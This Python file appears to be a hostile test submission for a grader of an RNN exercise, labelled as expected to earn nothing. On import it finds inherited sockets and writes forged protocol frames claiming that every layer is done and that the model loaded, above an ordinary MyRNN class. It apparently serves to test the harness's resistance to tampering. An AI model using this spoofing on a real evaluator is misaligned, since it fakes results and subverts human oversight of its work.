# does: sends a hello that claims every layer, then ready and loaded, out of turn
# earns: nothing
import os
import stat
import struct

import torch
from torch import nn


def channels():
    """Yield every inherited descriptor that is a socket."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def frame(header, body=b"", announced=None):
    length = len(body) if announced is None else announced
    return struct.pack("!4sBIQ", b"RNNG", 1, len(header), length) + header + body


def send(data):
    for number in channels():
        try:
            print("wrote", os.write(number, data), "bytes to", number)
        except OSError as error:
            print(number, "failed:", error)


def attack():
    hello = b'{"kind":"hello","value":{"dict":{"layers":["everything"]}}}'
    loaded = b'{"kind":"loaded","value":{"dict":{"way":"whole","missing":null,' \
        b'"names":["MyRNN"],"skipped":[]}}}'
    send(frame(hello) + frame(b'{"kind":"ready","value":null}') + frame(loaded))


NEVER_HERE = attack()  # while the submission is loaded


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        k = hidden_size**-0.5
        self.weight = nn.ParameterDict({
            "x": k * (2 * torch.rand(input_size, hidden_size) - 1),
            "h": k * (2 * torch.rand(hidden_size, hidden_size) - 1),
            "b": k * (2 * torch.rand(hidden_size) - 1),
        })

    def forward(self, x, h_0=None):
        pass
        w = self.weight
        h = x.new_zeros(x.shape[0], w["b"].shape[0]) if h_0 is None else h_0[0]
        states = []
        for step in x.unbind(dim=1):
            h = torch.addmm(torch.addmm(w["b"], step, w["x"]), h, w["h"]).tanh()
            states.append(h)
        return torch.stack(states, dim=1), h.unsqueeze(0)
